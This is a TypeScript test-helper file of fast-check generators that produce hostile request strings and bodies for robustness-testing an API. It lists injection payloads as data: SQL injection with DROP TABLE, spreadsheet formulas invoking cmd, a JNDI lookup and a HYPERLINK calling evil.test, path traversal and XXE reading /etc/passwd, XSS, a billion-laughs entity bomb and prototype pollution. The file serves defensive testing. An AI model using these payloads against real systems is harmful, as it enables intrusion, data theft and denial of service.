import fc, { type Arbitrary } from 'fast-check';

/** Strings a client should never get a 5xx for: NUL, lone surrogates, formulas, injections, sizes. */
export const hostileString: Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '\u0000',
    'a\u0000b',
    '\ud800',
    'x\udfffy',
    "=cmd|' /C calc'!A0",
    '+SUM(1,1)',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=HYPERLINK("http://evil.test")',
    "' OR 1=1 --",
    '"; DROP TABLE campaign; --',
    '../../../../etc/passwd',
    '%00%2e%2e%2f',
    '${jndi:ldap://evil.test/a}',
    '{{7*7}}',
    '<script>alert(1)</script>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '\u202eevil',
    '__proto__',
    'constructor',
    ' ',
    '',
    'NaN',
    '1e309',
    '-0',
    '99999999999999999999999999',
  ),
  fc.integer({ min: 1_000, max: 300_000 }).map((n) => 'x'.repeat(n)),
  fc.integer({ min: 100, max: 20_000 }).map((n) => '🙂'.repeat(n)),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">]>
<policy><name>&lol7;</name></policy>`;

const XXE = `<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><policy><name>&x;</name></policy>`;

export interface RawBody {
  contentType: string;
  body: string | Buffer;
  /** What the body is, for the report. */
  what: string;
}

/** Whole bodies no endpoint should accept nor fail on, whatever it expects. */
export const hostileBody: Arbitrary<RawBody> = fc.oneof(
  { arbitrary: nested(), weight: 2 },
  { arbitrary: constants(), weight: 10 },
  { arbitrary: overTheLimit(), weight: 1 },
);

function nested(): Arbitrary<RawBody> {
  return fc.oneof(
    fc.integer({ min: 1_000, max: 200_000 }).map((n) => ({
      contentType: 'application/json',
      body: '['.repeat(n) + ']'.repeat(n),
      what: 'deeply nested array',
    })),
    fc.integer({ min: 100, max: 20_000 }).map((n) => ({
      contentType: 'application/json',
      body: '{"a":'.repeat(n) + '1' + '}'.repeat(n),
      what: 'deeply nested object',
    })),
  );
}

function constants(): Arbitrary<RawBody> {
  return fc.constantFrom<RawBody>(
    { contentType: 'application/json', body: '{"a":1,', what: 'truncated JSON' },
    { contentType: 'application/json', body: "{'a': 1}", what: 'single-quoted JSON' },
    { contentType: 'application/json', body: '', what: 'empty body' },
    { contentType: 'application/json', body: 'null', what: 'null' },
    { contentType: 'application/json', body: '[]', what: 'an array' },
    { contentType: 'application/json', body: '"text"', what: 'a string' },
    { contentType: 'application/json', body: '1e999999', what: 'a huge number' },
    { contentType: 'application/json', body: '{"__proto__":{"admin":true}}', what: 'prototype pollution' },
    {
      contentType: 'application/json',
      body: '{"constructor":{"prototype":{"admin":true}}}',
      what: 'constructor pollution',
    },
    { contentType: 'application/json', body: '{"a":"\\u0000"}', what: 'escaped NUL' },
    { contentType: 'application/json', body: '{"a":"\\ud800"}', what: 'escaped lone surrogate' },
    { contentType: 'application/json', body: Buffer.from([0xff, 0xfe, 0x00, 0x7b]), what: 'invalid UTF-8' },
    { contentType: 'application/xml', body: BILLION_LAUGHS, what: 'XML billion laughs' },
    { contentType: 'application/xml', body: XXE, what: 'XML external entity' },
    { contentType: 'application/xml', body: '<policy><name>x</name>', what: 'unclosed XML' },
    { contentType: 'text/plain', body: 'hello', what: 'text/plain' },
    { contentType: 'multipart/form-data; boundary=x', body: '--x\r\n\r\n--x--', what: 'multipart' },
    { contentType: 'application/x-www-form-urlencoded', body: 'a=1&a=2', what: 'a form' },
    { contentType: 'application/json; charset=utf-16', body: '{"a":1}', what: 'a charset it cannot read' },
  );
}

function overTheLimit(): Arbitrary<RawBody> {
  return fc.integer({ min: 1_100_000, max: 3_000_000 }).map((n) => ({
    contentType: 'application/json',
    body: `{"a":"${'x'.repeat(n)}"}`,
    what: 'a body over the limit',
  }));
}

/** A JSON text with the first key repeated, the copy holding something else. */
export function withDuplicatedKey(value: Record<string, unknown>, other: unknown): string | undefined {
  const [key] = Object.keys(value);
  if (key === undefined) return undefined;
  const text = JSON.stringify(value);
  return `{${JSON.stringify(key)}:${JSON.stringify(other)},${text.slice(1)}`;
}

/** One way of making a valid object invalid: a required key gone, a wrong type, an unknown key. */
export function invalidate(
  value: Record<string, unknown>,
  required: string[],
): Arbitrary<{ body: unknown; what: string }> {
  const keys = Object.keys(value);
  const wrongType = fc.constantFrom<unknown>(42, 'text', true, null, [], {}, [1, 'a'], -1.5);
  const options: Arbitrary<{ body: unknown; what: string }>[] = [
    fc.string({ minLength: 1, maxLength: 12 }).map((k) => ({
      body: { ...value, [`unknown_${k}`]: 1 },
      what: 'an unknown key',
    })),
    fc.constantFrom<unknown>(42, 'text', true, null, []).map((body) => ({ body, what: 'not an object' })),
  ];
  if (required.length) {
    options.push(
      fc.constantFrom(...required).map((k) => {
        const copy = { ...value };
        delete copy[k];
        return { body: copy, what: `no ${k}` };
      }),
    );
  }
  if (keys.length) {
    options.push(
      fc.tuple(fc.constantFrom(...keys), wrongType).map(([k, v]) => ({
        body: { ...value, [k]: v },
        what: `${k} of a wrong type`,
      })),
      fc.tuple(fc.constantFrom(...keys), hostileString).map(([k, v]) => ({
        body: { ...value, [k]: v },
        what: `${k} hostile`,
      })),
    );
  }
  return fc.oneof(...options);
}
